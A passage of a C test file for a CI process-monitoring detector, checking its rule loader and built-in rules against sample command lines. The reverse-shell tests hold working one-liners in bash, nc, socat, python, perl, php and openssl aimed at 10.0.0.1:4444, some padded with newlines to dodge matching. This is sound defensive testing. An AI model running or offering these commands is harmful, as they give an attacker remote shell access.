/*
 * test-match.c: the recipe loader (errors must name file, recipe, field
 * and offset), the condition fields, and the built-in recipes on command
 * lines that must and must not be flagged.
 *
 * Processes are built in memory through the process tree (no log lines):
 * what is tested is the recipes' judgement, given an exec.
 */
#include "config.h"

#include <stdlib.h>

#include "steptrail.h"
#include "tap.h"

/* ----------------------------------------------------------- harness */

struct spec {
	const char	*exe;
	const char	*argv[8];
	const char	*path;		/* execve target; default argv[0] */
	const char	*parent_exe;	/* default /usr/bin/bash */
	const char	*parent_argv[8];
	const char	*cwd;
};

struct hits {
	struct st_buf	 names;
	enum st_severity sev;
};

static void
on_hit(const struct st_hit *hit, void *arg)
{
	struct hits *h = arg;

	if (h->names.len > 0)
		st_buf_addc(&h->names, ',');
	st_buf_adds(&h->names, hit->recipe->name);
	h->sev = hit->severity;
}

static void
push_exec(struct st_proctree *t, unsigned long serial, int pid, int ppid,
    const char *exe, const char *const *argv, const char *path,
    const char *cwd)
{
	struct st_event *ev = xcalloc(1, sizeof *ev);

	ev->kind = ST_EV_EXEC;
	ev->has_syscall = true;
	ev->serial = serial;
	ev->sec = 1000;
	ev->pid = pid;
	ev->ppid = ppid;
	ev->exe = xstrdup(exe);
	ev->cwd = xstrdup(cwd != NULL ? cwd : "/home/runner/work/r/r");
	for (; argv != NULL && *argv != NULL; argv++) {
		ev->argv = xreallocarray(ev->argv, ev->nargv + 1,
		    sizeof *ev->argv);
		ev->argv[ev->nargv++] = xstrdup(*argv);
	}
	if (path != NULL)
		ev->path0 = xstrdup(path);
	else if (ev->nargv > 0)
		ev->path0 = xstrdup(ev->argv[0]);
	st_proctree_apply(t, ev);
	st_event_free(ev);
}

/* Recipe names that fire on the exec described, comma-separated. */
static char *
run(struct st_recipes *rs, const struct spec *s, enum st_severity *sev)
{
	static const char *const bash_argv[] = { "bash", "-e",
	    "/home/runner/work/_temp/step.sh", NULL };
	struct st_proctree *t = st_proctree_new();
	struct hits h = { { 0 }, ST_SEV_NONE };
	struct st_proc *p;

	push_exec(t, 1, 100, 50, s->parent_exe ? s->parent_exe :
	    "/usr/bin/bash", s->parent_argv[0] ? s->parent_argv : bash_argv,
	    NULL, NULL);
	push_exec(t, 2, 101, 100, s->exe, s->argv, s->path, s->cwd);
	p = st_proctree_find(t, 0, 101);
	st_match_exec(rs, p, on_hit, &h);
	st_proctree_free(t);
	if (sev != NULL)
		*sev = h.sev;
	return st_buf_steal(&h.names);
}

static void
expect(struct st_recipes *rs, const struct spec *s, const char *want)
{
	struct st_buf line = { 0 };
	char *got;
	size_t i;

	for (i = 0; s->argv[i] != NULL; i++)
		;
	/* quoted as in a report: a newline would end the TAP line */
	st_format_argv(&line, (char *const *)s->argv, i, 0);
	got = run(rs, s, NULL);
	is_str(got, want, "%s: [%s] %s", want[0] ? want : "none", s->exe,
	    st_buf_cstr(&line));
	free(got);
	st_buf_free(&line);
}

static int
load(struct st_recipes *rs, const char *json, char **cause)
{
	*cause = NULL;
	return st_recipes_load_text(rs, "test.json", json, strlen(json), cause);
}

/* ------------------------------------------------------------ loader */

static void
load_error(const char *json, const char *want, const char *what)
{
	struct st_recipes rs;
	char *cause;
	int rc;

	st_recipes_init(&rs);
	rc = load(&rs, json, &cause);
	ok(rc == -1 && cause != NULL && strstr(cause, want) != NULL,
	    "loader: %s", what);
	if (cause == NULL || strstr(cause, want) == NULL)
		printf("#   got:  %s\n#   want: ...%s...\n",
		    cause ? cause : "(no error)", want);
	free(cause);
	st_recipes_free(&rs);
}

#define HEAD "{\"name\":\"r1\",\"description\":\"d\",\"severity\":\"high\"," \
	"\"technique\":\"T1059\","

static void
test_loader(void)
{
	struct st_recipes rs;
	char *cause;
	size_t i, n;
	int rc;

	load_error(HEAD "\"match\":{\"exe\":\"/usr/(bin\"}}",
	    "test.json: recipe \"r1\": match.exe: bad regular expression at "
	    "offset 9: missing closing parenthesis",
	    "bad regex names file, recipe, field and offset");
	load_error(HEAD "\"match\":[{\"exe\":\"x\"},{\"args\":\"[z-a]\"}]}",
	    "test.json: recipe \"r1\": match[1].args: bad regular expression "
	    "at offset 3", "bad regex in the second alternative says which");
	load_error(HEAD "\"match\":{\"exe\":\"x\",\"unless\":{\"cwd\":\"(\"}}}",
	    "recipe \"r1\": match.unless.cwd: bad regular expression at "
	    "offset 1",
	    "bad regex in a nested exception");
	load_error(HEAD "\"match\":{\"exx\":\"x\"}}",
	    "recipe \"r1\": match: unknown field \"exx\"", "unknown field");
	load_error(HEAD "\"match\":{\"exe\":\"x\"},\"unles\":{}}",
	    "recipe \"r1\": unknown key \"unles\"", "unknown key (typo)");
	load_error("{\"name\":\"r1\",\"description\":\"d\",\"severity\":\"huge\","
	    "\"technique\":\"T1059\",\"match\":{\"exe\":\"x\"}}",
	    "\"severity\" must be low, medium, high or critical",
	    "bad severity");
	load_error("{\"name\":\"r1\",\"description\":\"d\",\"severity\":\"low\","
	    "\"technique\":\"1059\",\"match\":{\"exe\":\"x\"}}",
	    "\"technique\" must be a MITRE ATT&CK technique id",
	    "bad technique");
	load_error(HEAD "\"match\":{}}", "match: must be an object of field",
	    "empty alternative");
	load_error(HEAD "\"on\":\"conect\",\"match\":{\"exe\":\"x\"}}",
	    "\"on\": \"conect\" is not an event", "unknown event");
	load_error(HEAD "\"match\":{\"exe\":\"x\"}", "test.json:1:",
	    "JSON syntax error with line:column");
	load_error("{\"name\":\"R 1\"}", "\"name\" must be a string",
	    "bad name");
	load_error(HEAD "\"match\":{\"exe\":\"x\",\"unless\":{\"cwd\":\"y\","
	    "\"unless\":{\"cwd\":\"z\"}}}}", "unknown field \"unless\"",
	    "exceptions cannot nest further");

	st_recipes_init(&rs);
	rc = st_recipes_load_builtin(&rs, &cause);
	ok(rc == 0 && rs.n >= 30, "built-in recipes load (%zu)", rs.n);
	n = rs.n;
	for (i = 0; i < rs.n; i++)
		if (strcmp(rs.v[i].name, "code_on_the_fly") == 0)
			break;
	ok(load(&rs, "{\"name\":\"code_on_the_fly\",\"description\":\"mine\","
	    "\"severity\":\"low\",\"technique\":\"T1059\",\"match\":{\"exe\":"
	    "\"nothing-matches-this\"}}", &cause) == 0 && rs.n == n &&
	    i < n && strcmp(rs.v[i].description, "mine") == 0,
	    "a recipe of the same name replaces the built-in one");
	st_recipes_free(&rs);
}

/* ------------------------------------------------------------- fields */

static void
test_fields(void)
{
	struct st_recipes rs;
	enum st_severity sev;
	char *cause, *got;
	struct spec s = { "/usr/bin/curl", { "curl", "-s", "http://x/a b",
	    NULL }, NULL, "/usr/bin/bash", { "bash", "-c", "build it", NULL },
	    "/w" };

	st_recipes_init(&rs);
	ok(load(&rs, "["
	    "{\"name\":\"f_parent\",\"description\":\"d\",\"severity\":\"low\","
	    "\"technique\":\"T1105\",\"match\":{\"exe\":\"/curl$\","
	    "\"parent.cmdline\":\"^bash -c build\"}},"
	    "{\"name\":\"f_ancestor\",\"description\":\"d\",\"severity\":\"low\","
	    "\"technique\":\"T1105\",\"match\":{\"ancestor.exe\":\"^/usr/bin/"
	    "bash$\",\"arg\":\"^http://x/a b$\"}},"
	    "{\"name\":\"f_args\",\"description\":\"d\",\"severity\":\"low\","
	    "\"technique\":\"T1105\",\"match\":{\"args\":\"^-s http\","
	    "\"cmdline\":\"^curl -s\",\"argv0\":\"^curl$\",\"cwd\":\"^/w$\","
	    "\"uid\":\"^0$\",\"path\":\"^/w/curl$\"}},"
	    "{\"name\":\"f_unless\",\"description\":\"d\",\"severity\":\"low\","
	    "\"technique\":\"T1105\",\"match\":{\"exe\":\"curl\"},"
	    "\"unless\":{\"parent.exe\":\"bash\"}},"
	    "{\"name\":\"f_sev\",\"description\":\"d\",\"severity\":\"low\","
	    "\"technique\":\"T1105\",\"match\":[{\"exe\":\"nomatch\","
	    "\"severity\":\"critical\"},{\"exe\":\"curl\",\"severity\":"
	    "\"medium\"}]}"
	    "]", &cause) == 0, "field test recipes load");
	free(cause);
	got = run(&rs, &s, &sev);
	is_str(got, "f_parent,f_ancestor,f_args,f_sev", "fields: parent.cmdline,"
	    " ancestor.exe, arg (one argument with a space), args, cmdline, "
	    "argv0, cwd, uid, path; recipe-level unless");
	is_int(sev, ST_SEV_MEDIUM, "fields: the alternative that matched sets "
	    "the severity");
	free(got);
	st_recipes_free(&rs);

	/* an attacker pads an argument so that the matcher gives up */
	st_recipes_init(&rs);
	ok(load(&rs, "["
	    "{\"name\":\"slow\",\"description\":\"d\",\"severity\":\"low\","
	    "\"technique\":\"T1105\",\"match\":{\"args\":\"^(a|aa)+$\"}},"
	    "{\"name\":\"slow_unless\",\"description\":\"d\",\"severity\":"
	    "\"low\",\"technique\":\"T1105\",\"match\":{\"exe\":\"curl\"},"
	    "\"unless\":{\"args\":\"^(a|aa)+$\"}}]", &cause) == 0,
	    "slow recipes load");
	free(cause);
	s.argv[1] = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab";
	s.argv[2] = NULL;
	got = run(&rs, &s, NULL);
	is_str(got, "slow,slow_unless", "match limit: counts as a match in "
	    "match, as no exception in unless (fail closed)");
	ok(rs.match_errors == 2, "match limit: both give-ups counted (%lu)",
	    rs.match_errors);
	ok(rs.v[0].gave_up == 1 && rs.v[1].gave_up == 1, "match limit: "
	    "counted against each recipe");
	free(got);
	st_recipes_free(&rs);
}

/* --------------------------------------------------- built-in recipes */

static void
test_code_on_the_fly(struct st_recipes *rs)
{
	static const struct spec yes[] = {
		{ "/usr/bin/python3.11", { "python3", "-c", "print(1)" } },
		{ "/usr/bin/python3.11", { "python3", "-u", "-c", "x" } },
		{ "/usr/bin/python3.11", { "python3", "-Bc", "x" } },
		{ "/usr/bin/python3.11", { "python3", "-W", "ignore", "-c",
		    "x" } },
		{ "/usr/bin/python2.7", { "python", "-c", "x" } },
		{ "/usr/bin/pypy3", { "pypy3", "-c", "x" } },
		{ "/usr/bin/perl", { "perl", "-e", "print 1" } },
		{ "/usr/bin/perl", { "perl", "-lne", "print if /x/", "f" } },
		{ "/usr/bin/perl", { "perl", "-Mstrict", "-we", "1" } },
		{ "/usr/bin/perl5.36.0", { "perl", "-E", "say 1" } },
		{ "/usr/bin/perl", { "perl", "-I", "lib", "-e", "1" } },
		{ "/usr/bin/node", { "node", "-e", "1" } },
		{ "/usr/bin/node", { "node", "--eval", "1" } },
		{ "/usr/bin/node", { "node", "-p", "1+1" } },
		{ "/usr/local/bin/nodejs", { "nodejs", "-pe", "1" } },
		{ "/usr/bin/node", { "node", "-r", "ts-node/register", "-e",
		    "1" } },
		{ "/usr/bin/php8.2", { "php", "-r", "echo 1;" } },
		{ "/usr/bin/php", { "php", "-d", "x=1", "-r", "echo 1;" } },
		{ "/usr/bin/ruby3.1", { "ruby", "-e", "puts 1" } },
		{ "/usr/bin/ruby3.1", { "ruby", "-rsocket", "-ne", "1" } },
	};
	static const struct spec no[] = {
		{ "/usr/bin/python3.11", { "python3", "build.py", "-c", "x" } },
		{ "/usr/bin/python3.11", { "python3", "-m", "mod", "-c", "x" } },
		{ "/usr/bin/python3.11", { "python3", "-m", "compileall", "." } },
		{ "/usr/bin/perl", { "perl", "script.pl", "-e" } },
		{ "/usr/bin/perl", { "perl", "-Mfeature=say", "x.pl" } },
		{ "/usr/bin/node", { "node", "app.js", "-e" } },
		{ "/usr/bin/node", { "node", "--inspect", "app.js", "-e" } },
		{ "/usr/bin/php8.2", { "php", "artisan", "-r" } },
		{ "/usr/bin/ruby3.1", { "ruby", "x.rb", "-e" } },
		{ "/usr/bin/bash", { "bash", "-c", "python3 -c x" } },
		{ "/usr/bin/python3-config", { "python3-config", "-c" } },
	};
	size_t i;

	for (i = 0; i < sizeof yes / sizeof yes[0]; i++)
		expect(rs, &yes[i], "code_on_the_fly");
	for (i = 0; i < sizeof no / sizeof no[0]; i++)
		expect(rs, &no[i], "");
}

#define LD "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"

static void
test_loader_recipe(struct st_recipes *rs)
{
	static const struct spec yes[] = {
		{ LD, { "/lib64/ld-linux-x86-64.so.2", "/bin/true" } },
		{ LD, { "/lib64/ld-linux-x86-64.so.2", "--library-path",
		    "/usr/lib", "/usr/bin/id" } },
		{ LD, { "/tmp/renamed", "/usr/bin/id" }, "/tmp/renamed" },
		{ "/lib/ld-musl-x86_64.so.1", { "ld-musl-x86_64.so.1",
		    "/bin/busybox", "sh" } },
		/* exec -a: argv0 names the loader, a program follows */
		{ "/usr/bin/env", { "/lib64/ld-linux-x86-64.so.2",
		    "/usr/bin/id" } },
	};
	static const struct spec no[] = {
		{ LD, { "/lib64/ld-linux-x86-64.so.2", "--verify",
		    "/bin/true" } },
		{ LD, { "/lib64/ld-linux-x86-64.so.2", "--help" } },
		{ LD, { "/lib64/ld-linux-x86-64.so.2" } },
		{ LD, { "/lib64/ld-linux-x86-64.so.2", "/bin/true" }, NULL,
		    "/usr/bin/bash", { "/bin/bash", "/usr/bin/ldd",
		    "/bin/true" } },
		{ "/usr/bin/ls", { "ls", "/lib64/ld-linux-x86-64.so.2" } },
		/* argv0 names the loader, but no program follows */
		{ "/usr/bin/id", { "/lib64/ld-linux-x86-64.so.2", "-u" } },
	};
	size_t i;

	/* the third runs a copy of the loader from /tmp: two findings */
	for (i = 0; i < sizeof yes / sizeof yes[0]; i++)
		expect(rs, &yes[i], i == 2 ? "binary_executed_by_loader,"
		    "exec_from_unusual_dir" : "binary_executed_by_loader");
	for (i = 0; i < sizeof no / sizeof no[0]; i++)
		expect(rs, &no[i], "");
}

static void
test_unusual_dir(struct st_recipes *rs)
{
	static const struct {
		struct spec	 s;
		const char	*want;
		enum st_severity sev;
	} cases[] = {
		{ { "/tmp/x", { "/tmp/x" } }, "exec_from_unusual_dir",
		    ST_SEV_HIGH },
		{ { "/dev/shm/y", { "/dev/shm/y" } }, "exec_from_unusual_dir",
		    ST_SEV_CRITICAL },
		{ { "/usr/bin/bash", { "/var/tmp/s.sh" } },
		    "exec_from_unusual_dir", ST_SEV_HIGH },
		{ { "/w/.cache-x/tool", { "./.cache-x/tool" }, NULL, NULL,
		    { NULL }, "/w" }, "exec_from_unusual_dir", ST_SEV_HIGH },
		/* and the fileless recipes too */
		{ { "/memfd:payload (deleted)", { "payload" }, "" },
		    "exec_from_unusual_dir,memfd_exec", ST_SEV_CRITICAL },
		{ { "/proc/self/fd/3", { "x" } },
		    "exec_from_unusual_dir,proc_fd_exec", ST_SEV_CRITICAL },
		{ { "/dev/shm/x", { "x" }, "/home/u/.cargo/bin/x" },
		    "exec_from_unusual_dir", ST_SEV_CRITICAL },
		{ { "/tmp/go-build123/b001/exe/main", { "main" } }, "",
		    ST_SEV_NONE },
		{ { "/home/u/.cargo/bin/cargo", { "cargo", "build" } }, "",
		    ST_SEV_NONE },
		{ { "/usr/bin/node", { "node_modules/.bin/tsc" }, NULL, NULL,
		    { NULL }, "/w" }, "", ST_SEV_NONE },
		{ { "/w/.libs/lt-prog", { "/w/.libs/lt-prog" } }, "",
		    ST_SEV_NONE },
		{ { "/usr/bin/bash", { "/w/.github/scripts/build.sh" } }, "",
		    ST_SEV_NONE },
		{ { "/usr/bin/make", { "make" } }, "", ST_SEV_NONE },
		{ { "/usr/bin/dash", { "sh", "/var/tmp/setup.sh" } },
		    "exec_from_unusual_dir", ST_SEV_HIGH },
		{ { "/usr/bin/bash", { "bash", "-e", "/dev/shm/s" } },
		    "exec_from_unusual_dir", ST_SEV_CRITICAL },
		{ { "/usr/bin/python3.11", { "python3", "-u", "/tmp/x.py" } },
		    "exec_from_unusual_dir", ST_SEV_HIGH },
		{ { "/usr/bin/dash", { "sh", "-c", "/tmp/x --flag" } }, "",
		    ST_SEV_NONE },
		{ { "/usr/bin/bash", { "bash", "-ec", "/tmp/x" } }, "",
		    ST_SEV_NONE },
		{ { "/usr/bin/bash", { "bash", "build.sh", "/tmp/out" } }, "",
		    ST_SEV_NONE },
		{ { "/home/u/w/hello", { "./hello" }, NULL, NULL, { NULL },
		    "/home/u/w" }, "", ST_SEV_NONE },
	};
	enum st_severity sev;
	size_t i;
	char *got;

	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		got = run(rs, &cases[i].s, &sev);
		ok(strcmp(got, cases[i].want) == 0 && sev == cases[i].sev,
		    "%s %s: exe %s argv0 %s", cases[i].want[0] ?
		    cases[i].want : "none", st_severity_name(cases[i].sev),
		    cases[i].s.exe, cases[i].s.argv[0]);
		if (strcmp(got, cases[i].want) != 0 || sev != cases[i].sev)
			printf("#   got: \"%s\" %s\n", got,
			    st_severity_name(sev));
		free(got);
	}
}

static void
test_reverse_shell(struct st_recipes *rs)
{
	static const struct {
		struct spec	 s;
		const char	*want;
	} cases[] = {
		{ { "/usr/bin/bash", { "bash", "-c",
		    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" } },
		    "reverse_shell" },
		{ { "/usr/bin/dash", { "sh", "-c", "exec 5<>/dev/tcp/10.0.0.1/"
		    "4444; cat <&5 | sh >&5" } }, "reverse_shell" },
		{ { "/usr/bin/bash", { "bash", "-c",
		    "</dev/tcp/127.0.0.1/5432" } }, "" },
		{ { "/usr/bin/bash", { "bash", "-c", "until bash -c "
		    "'echo > /dev/tcp/db/5432'; do sleep 1; done" } }, "" },
		{ { "/usr/bin/nc.traditional", { "nc", "-e", "/bin/sh",
		    "10.0.0.1", "4444" } }, "reverse_shell" },
		{ { "/usr/bin/ncat", { "ncat", "--sh-exec", "sh", "h", "1" } },
		    "reverse_shell" },
		{ { "/usr/bin/nc.openbsd", { "nc", "-zv", "h", "22" } }, "" },
		{ { "/usr/bin/socat", { "socat", "tcp-connect:10.0.0.1:4444",
		    "exec:/bin/sh,pty,stderr" } }, "reverse_shell" },
		{ { "/usr/bin/socat", { "socat", "TCP-LISTEN:8080,fork",
		    "TCP:localhost:80" } }, "" },
		{ { "/usr/bin/python3.11", { "python3", "-c", "import socket,"
		    "subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\","
		    "4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\","
		    "\"-i\"])" } }, "code_on_the_fly,reverse_shell" },
		{ { "/usr/bin/perl", { "perl", "-e", "use Socket;socket(S,"
		    "PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,"
		    "sockaddr_in(4444,inet_aton(\"10.0.0.1\")));open(STDIN,"
		    "\">&S\");exec(\"/bin/sh -i\");" } },
		    "code_on_the_fly,reverse_shell" },
		{ { "/usr/bin/php8.2", { "php", "-r", "$sock=fsockopen("
		    "\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");" } },
		    "code_on_the_fly,reverse_shell" },
		{ { "/usr/bin/python3.11", { "python3", "-c", "import socket;"
		    "print(socket.gethostname())" } }, "code_on_the_fly" },
		{ { "/usr/bin/dash", { "sh", "-c", "rm /tmp/f;mkfifo /tmp/f;"
		    "cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f" } },
		    "reverse_shell" },
		{ { "/usr/bin/gawk", { "awk", "BEGIN {s = \"/inet/tcp/0/"
		    "10.0.0.1/4242\"; while (1) { printf \"> \" |& s; }}" } },
		    "reverse_shell" },
		{ { "/usr/bin/dash", { "sh", "-c", "mkfifo /tmp/p && "
		    "openssl s_client -quiet -connect h:4 < /tmp/p | sh > "
		    "/tmp/p" } }, "reverse_shell" },
		/* the same after a newline in the argument: . must match
		 * it (PCRE2_DOTALL), or one line of padding hides them */
		{ { "/usr/bin/bash", { "bash", "-c",
		    "true\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1" } },
		    "reverse_shell" },
		{ { "/usr/bin/python3.11", { "python3", "-c", "import socket,os"
		    "\ns=socket.socket();s.connect((\"10.0.0.1\",4444))\n"
		    "os.dup2(s.fileno(),0)" } },
		    "code_on_the_fly,reverse_shell" },
		{ { "/usr/bin/dash", { "sh", "-c", "cd /tmp\nrm -f /tmp/f; "
		    "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 "
		    "> /tmp/f" } }, "reverse_shell" },
		{ { "/usr/bin/dash", { "sh", "-c", "true\nopenssl s_client "
		    "-quiet -connect 10.0.0.1:4444 | /bin/sh" } },
		    "reverse_shell" },
	};
	size_t i;

	for (i = 0; i < sizeof cases / sizeof cases[0]; i++)
		expect(rs, &cases[i].s, cases[i].want);
}

/* ------------------------------------------------------ folding findings */

struct fold {
	struct st_findings	 fs;
	struct st_steps		 ss;
	struct st_proc		*p;
};

static void
on_fold(const struct st_hit *h, void *arg)
{
	struct fold *fo = arg;

	st_findings_add(&fo->fs, &fo->ss, h);
}

/*
 * A finding keeps at most 64 kB of argv as evidence; the same exec again,
 * argument for argument, is folded into it all the same, and one that
 * differs only past the cut is not.
 */
static void
test_fold_cut_argv(struct st_recipes *rs)
{
	static const char *const sh[] = { "bash", NULL };
	struct st_proctree *t = st_proctree_new();
	struct fold fo;
	const char *argv[4] = { "python3", "-c", NULL, NULL };
	char *a = xmalloc(70001), *b;
	int pid;

	memset(a, 'a', 70000);
	a[70000] = '\0';
	b = xstrdup(a);
	b[69999] = 'b';
	st_findings_init(&fo.fs);
	st_steps_init(&fo.ss);
	push_exec(t, 1, 100, 50, "/usr/bin/bash", sh, NULL, NULL);
	for (pid = 101; pid <= 103; pid++) {
		argv[2] = pid < 103 ? a : b;
		push_exec(t, (unsigned long)pid, pid, 100, "/usr/bin/python3.11",
		    argv, NULL, NULL);
		fo.p = st_proctree_find(t, 0, pid);
		st_match_exec(rs, fo.p, on_fold, &fo);
	}
	ok(fo.fs.n == 2 && fo.fs.v[0]->count == 2 && fo.fs.v[1]->count == 1,
	    "fold: the same 70 kB argument twice is one finding (twice), one "
	    "differing past the 64 kB evidence cut another (%zu findings)",
	    fo.fs.n);
	ok(fo.fs.n > 0 && fo.fs.v[0]->argv_truncated &&
	    fo.fs.v[0]->argc_seen == 3, "fold: the evidence says it was cut, "
	    "and how many arguments there were");
	st_findings_free(&fo.fs);
	st_steps_free(&fo.ss);
	st_proctree_free(t);
	free(a);
	free(b);
}

/* ------------------------------------------------------------ engine */

/* The pipeline's part from the tree on: events applied, then matched,
 * hits filed as findings (what analyze.c does). */
struct pipe {
	struct st_proctree	*t;
	struct st_recipes	*rs;
	struct st_findings	 fs;
	struct st_steps		 ss;
	unsigned long		 serial;
};

static void
pipe_hit(const struct st_hit *h, void *arg)
{
	struct pipe *pp = arg;

	st_findings_add(&pp->fs, &pp->ss, h);
}

static void
pipe_init(struct pipe *pp, struct st_recipes *rs)
{
	memset(pp, 0, sizeof *pp);
	pp->t = st_proctree_new();
	pp->rs = rs;
	st_findings_init(&pp->fs);
	st_steps_init(&pp->ss);
}

static void
pipe_free(struct pipe *pp)
{
	st_findings_free(&pp->fs);
	st_steps_free(&pp->ss);
	st_proctree_free(pp->t);
}

static struct st_event *
pipe_event(struct pipe *pp, enum st_event_kind kind, int pid, int ppid)
{
	struct st_event *ev = xcalloc(1, sizeof *ev);

	ev->kind = kind;
	ev->has_syscall = true;
	ev->success = true;
	ev->serial = ++pp->serial;
	ev->sec = 1000;
	ev->pid = pid;
	ev->ppid = ppid;
	ev->argc = ev->items = ev->enabled = -1;
	ev->family = ev->port = -1;
	ev->uid = ev->euid = ev->auid = 0;
	ev->sysname = "";
	return ev;
}

static void
pipe_feed(struct pipe *pp, struct st_event *ev)
{
	struct st_proc *p = st_proctree_apply(pp->t, ev);

	if (ev->kind != ST_EV_FORK)
		st_match_event(pp->rs, pp->t, p, ev, pipe_hit, pp);
	if (p != NULL && ev->kind == ST_EV_EXEC)
		st_proctree_trim(p);	/* as analyze.c does */
	st_event_free(ev);
}

static void
pipe_fork(struct pipe *pp, int parent, int child)
{
	struct st_event *ev = pipe_event(pp, ST_EV_FORK, parent, 1);

	ev->sysname = "clone";
	ev->exit = child;
	pipe_feed(pp, ev);
}

static void
pipe_exec(struct pipe *pp, int pid, int ppid, const char *exe,
    const char *const *argv)
{
	struct st_event *ev = pipe_event(pp, ST_EV_EXEC, pid, ppid);

	ev->sysname = "execve";
	ev->exe = xstrdup(exe);
	ev->cwd = xstrdup("/w");
	for (; *argv != NULL; argv++) {
		ev->argv = xreallocarray(ev->argv, ev->nargv + 1,
		    sizeof *ev->argv);
		ev->argv[ev->nargv++] = xstrdup(*argv);
	}
	pipe_feed(pp, ev);
}

#define R(name, sev, rest) "{\"name\":\"" name "\",\"description\":\"d\"," \
	"\"severity\":\"" sev "\",\"technique\":\"T1059\"," rest "}"

static const char *const a_bash[] = { "bash", "-e", "step.sh", NULL };
static const char *const a_curl[] = { "curl", "-s", "http://x/i.sh", NULL };
static const char *const a_sh[] = { "sh", NULL };
static const char *const a_cat[] = { "cat", "x", NULL };

/*
 * curl | sh: both sides are children of one shell, and they exec in
 * either order; the finding is the same one, filed once, either way.
 */
static void
test_siblings(void)
{
	struct st_recipes rs;
	struct pipe pp;
	char *cause = NULL;
	int order;

	st_recipes_init(&rs);
	ok(load(&rs, R("pipe", "high", "\"match\":{\"exe\":\"/sh$\","
	    "\"sibling.exe\":\"/curl$\"}"), &cause) == 0, "sibling recipe "
	    "loads");
	free(cause);
	for (order = 0; order < 2; order++) {
		pipe_init(&pp, &rs);
		pipe_exec(&pp, 100, 50, "/usr/bin/bash", a_bash);
		pipe_fork(&pp, 100, 101);
		pipe_fork(&pp, 100, 102);
		if (order == 0) {
			pipe_exec(&pp, 101, 100, "/usr/bin/curl", a_curl);
			pipe_exec(&pp, 102, 100, "/bin/sh", a_sh);
		} else {
			pipe_exec(&pp, 102, 100, "/bin/sh", a_sh);
			pipe_exec(&pp, 101, 100, "/usr/bin/curl", a_curl);
		}
		/* a third child of the shell execs: sh is looked at again */
		pipe_fork(&pp, 100, 103);
		pipe_exec(&pp, 103, 100, "/usr/bin/cat", a_cat);
		ok(pp.fs.n == 1 && pp.fs.v[0]->pid == 102 &&
		    pp.fs.v[0]->count == 1 && pp.fs.by_severity[ST_SEV_HIGH] == 1,
		    "curl | sh, %s exec'd first: one finding on sh, counted once "
		    "(%zu findings)", order == 0 ? "curl" : "sh", pp.fs.n);
		pipe_free(&pp);
	}
	/* a cousin is not a sibling */
	pipe_init(&pp, &rs);
	pipe_exec(&pp, 100, 50, "/usr/bin/bash", a_bash);
	pipe_exec(&pp, 200, 50, "/usr/bin/bash", a_bash);
	pipe_exec(&pp, 101, 100, "/usr/bin/curl", a_curl);
	pipe_exec(&pp, 201, 200, "/bin/sh", a_sh);
	ok(pp.fs.n == 0, "curl and sh under different shells: nothing");
	pipe_free(&pp);

	/* a grade that holds only once the sibling has exec'd raises the
	 * finding already filed, and moves its count */
	st_recipes_free(&rs);
	st_recipes_init(&rs);
	ok(load(&rs, R("sh_any", "low", "\"match\":{\"exe\":\"/sh$\"},"
	    "\"grade\":{\"sibling.exe\":\"/curl$\",\"severity\":"
	    "\"critical\",\"reason\":\"fed by a download\"}"), &cause) == 0,
	    "sibling-graded recipe loads");
	free(cause);
	pipe_init(&pp, &rs);
	pipe_exec(&pp, 100, 50, "/usr/bin/bash", a_bash);
	pipe_fork(&pp, 100, 101);
	pipe_fork(&pp, 100, 102);
	pipe_exec(&pp, 102, 100, "/bin/sh", a_sh);
	pipe_exec(&pp, 101, 100, "/usr/bin/curl", a_curl);
	ok(pp.fs.n == 1 && pp.fs.v[0]->severity == ST_SEV_CRITICAL &&
	    pp.fs.v[0]->reason != NULL && pp.fs.v[0]->count == 1 &&
	    pp.fs.by_severity[ST_SEV_CRITICAL] == 1 &&
	    pp.fs.by_severity[ST_SEV_LOW] == 0, "sh, then curl beside it: the "
	    "low finding is raised to critical, counted once");
	pipe_free(&pp);

	/* the same with an argv over the 8 kB kept after matching: the
	 * finding is still found to be raised */
	{
		char *big = xmalloc(9001);
		const char *a_shbig[] = { "sh", "-c", big, NULL };

		memset(big, 'x', 9000);
		big[9000] = '\0';
		pipe_init(&pp, &rs);
		pipe_exec(&pp, 100, 50, "/usr/bin/bash", a_bash);
		pipe_fork(&pp, 100, 101);
		pipe_fork(&pp, 100, 102);
		pipe_exec(&pp, 102, 100, "/bin/sh", a_shbig);
		pipe_exec(&pp, 101, 100, "/usr/bin/curl", a_curl);
		ok(pp.fs.n == 1 && pp.fs.v[0]->severity == ST_SEV_CRITICAL &&
		    pp.fs.by_severity[ST_SEV_CRITICAL] == 1,
		    "a 9 kB argv, trimmed after matching: raised all the same");
		pipe_free(&pp);
		free(big);
	}

	/* thousands of other hits in between do not make the re-evaluated
	 * hit count again (what was filed is kept with the exec) */
	st_recipes_free(&rs);
	st_recipes_init(&rs);
	ok(load(&rs, "[" R("pipe", "high", "\"match\":{\"exe\":\"/sh$\","
	    "\"sibling.exe\":\"/curl$\"}") "," R("conn", "low", "\"on\":"
	    "\"connect\",\"match\":{\"port\":\"^9$\"}") "]", &cause) == 0,
	    "pipe and connect recipes load");
	free(cause);
	pipe_init(&pp, &rs);
	pipe_exec(&pp, 100, 50, "/usr/bin/bash", a_bash);
	pipe_fork(&pp, 100, 101);
	pipe_fork(&pp, 100, 102);
	pipe_exec(&pp, 101, 100, "/usr/bin/curl", a_curl);
	pipe_exec(&pp, 102, 100, "/bin/sh", a_sh);
	for (int i = 0; i < 5000; i++) {
		struct st_event *ev = pipe_event(&pp, ST_EV_SYSCALL, 102, 100);

		ev->sysname = "connect";
		ev->port = 9;
		pipe_feed(&pp, ev);
	}
	pipe_fork(&pp, 100, 103);
	pipe_exec(&pp, 103, 100, "/usr/bin/cat", a_cat);
	ok(pp.fs.by_severity[ST_SEV_HIGH] == 1 && pp.fs.n == 2 &&
	    pp.fs.v[0]->count == 1, "5000 hits later, a sibling's exec does "
	    "not count the pipe's hit again (%lu high)",
